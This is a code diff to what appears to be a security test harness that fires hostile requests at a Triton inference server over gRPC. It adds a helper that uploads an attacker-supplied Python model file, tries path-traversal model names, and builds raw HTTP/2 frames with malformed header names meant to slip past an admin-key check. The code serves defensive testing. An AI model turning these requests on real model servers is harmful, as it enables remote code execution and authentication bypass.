@@ -9,9 +9,9 @@ from collections.abc import Iterator
 from typing import Any
 
 from plurum.benchmarks.hostile.attack import ANY, REFUSED, Attacker, Kind, Make
-from plurum.benchmarks.hostile.wires import CLOSED, TIMEOUT, Wire
+from plurum.benchmarks.hostile.wires import CLOSED, TIMEOUT, Place, Wire
 
-__all__ = ["GRPC", "evil_model"]
+__all__ = ["GRPC", "evil_model", "is_answered", "raw_call"]
 
 _SERVICE = "/inference.GRPCInferenceService/"
 _MANAGED = (
@@ -109,10 +109,9 @@ def _managed(attacker: Attacker) -> list[int]:
     method = attacker.chance.choice(_MANAGED)
     request = getattr(pb, f"{method}Request", pb.RepositoryIndexRequest)()
     if "Model" in method:
-        request.model_name = attacker.chance.choice(("evil", "ensemble", "voter", "../evil"))
         if method.endswith("Load"):
-            request.parameters["config"].string_param = '{"backend":"python"}'
-            request.parameters["file:1/model.py"].bytes_param = evil_model(attacker)
+            request.ParseFromString(_load(attacker))
+        request.model_name = attacker.chance.choice(("evil", "ensemble", "voter", "../evil"))
     elif method == "SystemSharedMemoryRegister":
         request.name, request.key, request.byte_size = "a", "/plurum", 64
     elif method == "LogSettings":
@@ -121,6 +120,16 @@ def _managed(attacker: Attacker) -> list[int]:
     return [
         _called(attacker, _SERVICE + method, request.SerializeToString(), [(attacker.chance.choice(_HEADERS), guess)])
     ]
+
+
+def _load(attacker: Attacker) -> bytes:
+    """Return the message that would load a model of the attacker's."""
+    from tritonclient.grpc import service_pb2 as pb
+
+    request = pb.RepositoryModelLoadRequest(model_name="evil")
+    request.parameters["config"].string_param = '{"backend":"python"}'
+    request.parameters["file:1/model.py"].bytes_param = evil_model(attacker)
+    return bytes(request.SerializeToString())
 
 
 def _huge(attacker: Attacker) -> list[int]:
@@ -215,7 +224,7 @@ def _hpack_bomb() -> bytes:
 def _spelled(attacker: Attacker) -> list[int]:
     """Call management with header names that libraries refuse to send."""
     chance = attacker.chance
-    names = (
+    names: tuple[bytes, ...] = (
         b"x y",
         b"triton-grpc-protocol-x y",
         b"X Y",
@@ -226,9 +235,44 @@ def _spelled(attacker: Attacker) -> list[int]:
         b"triton-grpc-protocol-admin-key",
         b"x\0y",
     )
-    path = _SERVICE + chance.choice(_MANAGED[:4])
-    head = _frame(_HEAD, 4, 1, _request(path, (chance.choice(names), chance.choice((b"1", b"", b"x y=1")))))
-    return [_frames(head + _frame(_DATA, 1, 1, bytes(5)), attacker)]
+    own, value = attacker.known.header
+    bare = own.removeprefix(b"triton-grpc-protocol-")
+    names += (own, bare, own.upper(), own.replace(b"\n", b"\r\n"), own.replace(b"\n", b" "), own + b" ")
+    values = (value, value + b" ", b"1", b"")
+    method = chance.choice(("RepositoryIndex", "RepositoryModelLoad"))
+    sent = _load(attacker) if method.endswith("Load") else b""
+    try:
+        call = raw_call(method, sent, (chance.choice(names), chance.choice(values)))
+        return [200 if is_answered(attacker.place, call) else 400]
+    except OSError:
+        return [CLOSED]
+
+
+def raw_call(method: str, message: bytes, *headers: tuple[bytes, bytes]) -> bytes:
+    """Return the frames of a connection with one call in it."""
+    head = _request(_SERVICE + method, *headers)
+    sent = b"\0" + struct.pack(">I", len(message)) + message
+    return _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEAD, 4, 1, head) + _frame(_DATA, 1, 1, sent)
+
+
+def is_answered(place: Place, call: bytes) -> bool:
+    """Return whether a call gets a message; a refusal has none.
+
+    Raises:
+        OSError: the server accepts no connection.
+    """
+    with Wire(place, 1.0) as wire:
+        wire.send(call)
+        return _DATA in _kinds(wire.rest(0.2))
+
+
+def _kinds(came: bytes) -> list[int]:
+    """Return the kinds of the frames of a response."""
+    kinds = []
+    while len(came) >= 9:
+        kinds.append(came[3])
+        came = came[9 + int.from_bytes(came[:3], "big") :]
+    return kinds
 
 
 def _garbage(attacker: Attacker) -> list[int]:
